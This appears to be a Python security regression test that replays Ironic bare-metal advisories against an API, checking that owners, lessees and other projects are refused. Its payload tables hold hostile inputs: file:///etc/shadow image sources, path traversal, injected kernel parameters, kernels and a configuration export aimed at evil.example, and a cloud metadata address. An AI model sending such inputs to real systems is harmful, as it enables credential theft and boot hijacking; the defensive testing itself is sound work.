"""What Ironic's security advisories of 2025 and 2026 were about, tried by an owner, a lessee and
another project. Usage: METALMESH_API=... IRONIC_URL=... ADMIN_TOKEN=... ironic_advisories.py
"""

import base64
import json

from ironic_calls import Refused, wait_until
from ironic_world import IMAGE, IMAGE_SHA256, IMAGE_URL, PARTITION, SIZE, World

GOOD_IMAGE = {"image_source": IMAGE_URL, "image_checksum": IMAGE_SHA256}
SECRET = "s3cret-of-the-bmc"
# By the advisory: what a tenant writes into instance_info before it deploys.
INSTANCE_INFO = {
    "OSSA-2025-001 file:// paths": {"image_source": "file:///etc/shadow"},
    "CVE-2026-44919 file:///dev/zero": {"image_source": "file:///dev/zero"},
    "CVE-2026-44919 a file as checksum": {**GOOD_IMAGE, "image_checksum": "file:///etc/shadow"},
    "CVE-2026-44916 kickstart template": {**GOOD_IMAGE, "ks_template": "http://evil.example/ks"},
    "CVE-2026-44917 pxe_template": {**GOOD_IMAGE, "pxe_template": "../../etc/passwd"},
    "CVE-2026-46447 kernel parameters":
        {**GOOD_IMAGE, "kernel_append_params": "init=/bin/sh\nmenuentry x"},
    "CVE-2026-46447 a kernel of its own": {**GOOD_IMAGE, "kernel": "http://evil.example/k",
                                           "ramdisk": "http://evil.example/r"},
    "CVE-2026-48681 boot ISO": {"boot_iso": "file:///etc/shadow"},
    "a server of the site as image": {"image_source": "http://169.254.169.254/latest/meta-data"},
}
# In driver_info, which an owner writes: it is stored, and nothing obeys it.
DRIVER_INFO = {
    "pxe_template": "../../etc/passwd", "kernel_append_params": "init=/bin/sh",
    "deploy_kernel": "file:///dev/zero", "redfish_verify_ca": "/etc/shadow",
}
# By the advisory: the steps of a manual clean.
CLEAN_STEPS = {
    "CVE-2026-42997 credentials to a mold": {
        "interface": "management", "step": "export_configuration",
        "args": {"export_configuration_location": "http://evil.example/x"}},
    "LP 2150456 a step of the BMC": {
        "interface": "management", "step": "clear_ca_certificates", "args": {}},
    "LP 2150456 a step of the vendor": {
        "interface": "vendor", "step": "send_raw", "args": {"raw_bytes": "0x00 0x00"}},
}
# LP 2150456: a step of a deployment.
DEPLOY_STEP = {"interface": "deploy", "step": "inject_files", "priority": 50,
               "args": {"files": [{"path": "/etc/shadow", "content": "eA=="}]}}


def is_untouched(machine, orders, state="available"):
    """The machine is free, and its BMC was ordered nothing."""
    found = machine.node()["provision_state"]
    assert found == state, found
    assert machine.allocation is None and machine.orders == orders, machine.orders


def deployments(machine, caller):
    """Fields that a deployment must not obey: it is refused, and names the field or the image."""
    path, orders = f"/v1/nodes/{machine.id}", list(machine.orders)
    for about, values in INSTANCE_INFO.items():
        patch = [{"op": "add", "path": "/instance_info", "value": values}]
        written = caller.patch(path, patch)
        assert written.status in (200, 400), f"{about}: {written}"
        refused = written
        if written.status == 200:
            refused = caller.put(f"{path}/states/provision", {"target": "active"})
            assert refused.status == 400, f"{about}: {refused}"
        named = any(name in refused.reason for name in (*values, "image"))
        assert named, f"{about}: {refused}"
        is_untouched(machine, orders)
    caller.ok("PATCH", path, [{"op": "add", "path": "/instance_info", "value": GOOD_IMAGE}])
    iso = base64.b64encode(b"\0" * 32769 + b"CD001" + b"\0" * 4096).decode()
    for body in ({"target": "active", "configdrive": iso},
                 {"target": "active", "configdrive": "file:///etc/shadow"},
                 {"target": "active", "deploy_steps": [DEPLOY_STEP]}):
        refused = caller.put(f"{path}/states/provision", body)
        assert refused.status == 400, f"{body}: {refused}"
        is_untouched(machine, orders)
    caller.ok("PATCH", path, [{"op": "add", "path": "/instance_info", "value": {}}])
    return len(INSTANCE_INFO) + 3


def owners_inputs(machine, owner):
    """Steps, vendor calls, and fields of driver_info."""
    path, orders = f"/v1/nodes/{machine.id}", list(machine.orders)
    owner.ok("PATCH", path, [{"op": "add", "path": "/driver_info", "value": DRIVER_INFO}])
    is_untouched(machine, orders)
    owner.ok("PUT", f"{path}/states/provision", {"target": "manage"})
    wait_until(lambda: machine.node()["provision_state"] == "manageable", "manageable")
    for about, step in CLEAN_STEPS.items():
        refused = owner.put(f"{path}/states/provision",
                            {"target": "clean", "clean_steps": [step]})
        assert refused.status == 400, f"{about}: {refused}"
        is_untouched(machine, orders, "manageable")
    for method in ("send_raw", "bmc_reset", "../../x"):
        refused = owner.post(f"{path}/vendor_passthru?method={method}", {})
        assert refused.status in (400, 403, 404), refused
    is_untouched(machine, orders, "manageable")
    owner.ok("PUT", f"{path}/states/provision", {"target": "provide"})
    machine.waits()
    return len(CLEAN_STEPS) + 4


def lists_of_others(world, machine):
    """LP 2150461: parts of foreign nodes, by node and by shard."""
    site, other = world.site, world.projects["other"].as_("admin")
    site.ok("PATCH", f"/v1/nodes/{machine.id}",
            [{"op": "add", "path": "/shard", "value": "s1"}])
    site.ok("POST", "/v1/portgroups", {"node_uuid": machine.id, "name": "pg1"})
    tried = 0
    for name in ("ports", "portgroups"):
        for query in ("shard=s1", "detail=True&shard=s1", "detail=True"):
            found = other.get(f"/v1/{name}?{query}")
            assert found.status == 200 and found.json[name] == [], f"{name} {query}: {found}"
            tried += 1
        for query in (f"node={machine.id}", f"node_uuid={machine.id}"):
            found = other.get(f"/v1/{name}?{query}")
            assert found.status in (400, 404) or found.json[name] == [], f"{name}: {found}"
            tried += 1
    for name in ("connectors", "targets"):
        found = other.get(f"/v1/volume/{name}?node={machine.id}")
        assert found.status == 404 or found.json[name] == [], found
        tried += 1
    for path in ("ports", "portgroups", "vifs", "traits", "states", "history", "inventory",
                 "bios", "firmware", "allocation", "volume/connectors", "children"):
        assert other.get(f"/v1/nodes/{machine.id}/{path}").status == 404, path
        tried += 1
    assert other.ok("GET", "/v1/nodes?shard=s1")["nodes"] == []
    site.ok("DELETE", "/v1/portgroups/pg1")
    return tried + 1


def moves_to_others(world, machine):
    """CVE-2026-44918: ports, port groups and children go to no node of another owner."""
    site, owner = world.site, world.projects["owner"].as_("admin")
    body = {"driver": "metalmesh", "name": "foreign", "owner": world.projects["other"].id}
    foreign = site.ok("POST", "/v1/nodes", body)["uuid"]
    own = site.ok("POST", "/v1/nodes", {
        "driver": "metalmesh", "name": "own", "owner": world.projects["owner"].id})["uuid"]
    port = owner.ok("POST", "/v1/ports", {"node_uuid": own, "address": "52:54:00:00:02:01"})
    group = owner.ok("POST", "/v1/portgroups", {"node_uuid": own, "name": "pg2"})
    for path, field in ((f"/v1/ports/{port['uuid']}", "node_uuid"),
                        (f"/v1/portgroups/{group['uuid']}", "node_uuid"),
                        (f"/v1/nodes/{own}", "parent_node")):
        before = site.ok("GET", path)
        answer = owner.patch(path, [{"op": "add", "path": f"/{field}", "value": foreign}])
        assert answer.status in (400, 403, 404), answer
        assert site.ok("GET", path)[field] == before[field], path
    answer = owner.post("/v1/ports", {"node_uuid": foreign, "address": "52:54:00:00:02:02"})
    assert answer.status in (400, 403, 404), answer
    answer = owner.post("/v1/nodes", {"driver": "metalmesh", "parent_node": foreign})
    assert answer.status in (400, 403, 404), answer
    return 5


def ports_behind_others(world, machine):
    """A port with the id of somebody else's hides it from nobody."""
    site, owner = world.site, world.projects["owner"].as_("admin")
    other = world.projects["other"].as_("admin")
    card = owner.ok("GET", f"/v1/nodes/{machine.id}/ports")["ports"][0]
    shadow = other.ok("POST", "/v1/nodes", {"driver": "metalmesh", "name": "shadow"})["uuid"]
    taken = other.post("/v1/ports", {"node_uuid": shadow, "address": card["address"]})
    assert taken.status == 409, taken
    behind = other.post("/v1/ports", {
        "node_uuid": shadow, "address": "52:54:00:00:02:09", "uuid": card["uuid"]})
    assert behind.status in (201, 400, 409), behind
    for caller in (owner, site):
        for ident in (card["uuid"], card["address"]):
            shown = caller.ok("GET", f"/v1/ports/{ident}")
            assert shown["node_uuid"] == machine.id, shown
    patch = [{"op": "add", "path": "/extra", "value": {"a": 1}}]
    assert owner.ok("PATCH", f"/v1/ports/{card['uuid']}", patch)["node_uuid"] == machine.id
    found = other.get(f"/v1/ports/{card['uuid']}")
    assert found.status == 404 or found.json["node_uuid"] == shadow, found
    site.ok("DELETE", f"/v1/nodes/{shadow}")
    return 7


def masks_and_secrets(world, machine):
    """LP 2150573 and secrets in answers to PATCH: what a lessee must not see, and nobody sees."""
    site, path = world.site, f"/v1/nodes/{machine.id}"
    written = site.ok("PATCH", path, [
        {"op": "add", "path": "/driver_info", "value": {
            "redfish_address": "https://10.9.0.1", "redfish_password": SECRET,
            "nested": {"token": SECRET}}}])
    assert SECRET not in json.dumps(written), written
    lessee, owner = world.projects["lessee"].as_("admin"), world.projects["owner"].as_("reader")
    masked = "permission"
    answers = [
        lessee.ok("GET", path), lessee.ok("GET", "/v1/nodes/detail")["nodes"][0],
        lessee.ok("GET", "/v1/nodes?fields=uuid,driver_info,driver_internal_info,reservation,"
                  "last_error")["nodes"][0],
        lessee.ok("PATCH", path, [{"op": "add", "path": "/extra", "value": {"a": 1}}]),
    ]
    for found in answers:
        for field in ("driver_info", "driver_internal_info", "reservation", "last_error"):
            assert masked in json.dumps(found[field]), f"{field}: {found[field]}"
    assert lessee.get(f"{path}/history").status == 403
    assert lessee.get(f"{path}/inventory").status == 403
    shown = owner.ok("GET", path)["driver_info"]
    assert shown["redfish_password"] == "******", shown
    for caller in (site, owner):
        assert SECRET not in caller.get(path).text
    trail = json.dumps(world.admin("admin.AuditService/List"))
    assert SECRET not in trail and "Nodes/Update" in trail, "the trail has the secret"
    return len(answers) + 4


def faults_that_users_met(world):
    """Answers of 500 that tenants got from Ironic."""
    member = world.projects["owner"].as_("member")
    member.refused(403, "GET", "/v1/drivers")
    member.refused(403, "GET", "/v1/chassis")
    member.ok("GET", "/v1/nodes?fields=uuid,allocation_uuid")
    held = member.post("/v1/allocations", {"resource_class": "nonsense"})
    assert held.status == 201, held
    shown = member.ok("GET", f"/v1/allocations/{held.json['uuid']}")
    assert shown["state"] == "error" and shown["last_error"], shown
    return 4


def used_by(machine, project):
    """A project gets the machine by metalmesh's own API."""
    project.owner("api.MachineService/Create", project=project.id, name="m2", partition=PARTITION,
                  size=SIZE, image=IMAGE, filesystemLayout="default",
                  networks=[{"network": project.network}],
                  allocationType="MACHINE_ALLOCATION_TYPE_MACHINE")
    wait_until(lambda: machine.node()["provision_state"] == "active", "the machine is in use")
    return project.as_("manager")


def leftovers(world):
    """What a tenant wrote on a machine of the site is gone with it, also if it frees the machine by
    metalmesh's own API."""
    machine = world.machine("m2", 2)
    path, first = f"/v1/nodes/{machine.id}", world.projects["other"]
    tenant = used_by(machine, first)
    tenant.ok("PATCH", path, [{"op": "add", "path": "/instance_info", "value": {"a": SECRET}}])
    tenant.ok("POST", f"{path}/vifs", {"id": first.network})
    first.owner("api.MachineService/Delete", project=first.id, uuid=machine.id)
    machine.waits()
    assert tenant.get(path).status == 404
    tenant = used_by(machine, world.projects["lessee"])
    assert SECRET not in tenant.get(path).text
    assert tenant.ok("GET", path)["instance_info"] == {}
    assert tenant.ok("GET", f"{path}/vifs")["vifs"] == []
    return 3


def main():
    world = World("owner", "lessee", "other")
    machine = world.machine("m1", 1)
    owner, lessee = world.projects["owner"], world.projects["lessee"]
    path = f"/v1/nodes/{machine.id}"
    world.site.ok("PATCH", path, [{"op": "add", "path": "/owner", "value": owner.id}])
    tried = moves_to_others(world, machine) + lists_of_others(world, machine)
    tried += ports_behind_others(world, machine)
    tried += deployments(machine, owner.as_("admin"))
    tried += owners_inputs(machine, owner.as_("admin"))
    world.site.ok("PATCH", path, [{"op": "add", "path": "/lessee", "value": lessee.id}])
    tried += masks_and_secrets(world, machine)
    tried += deployments(machine, lessee.as_("admin"))
    tried += faults_that_users_met(world) + leftovers(world)
    try:
        other = world.projects["other"]
        other.owner("api.MachineService/Get", project=other.id, uuid=machine.id)
        raise AssertionError("the machine is shown to another project")
    except Refused as refused:
        assert refused.code == "not_found", refused
    print(f"{tried} attempts")


main()
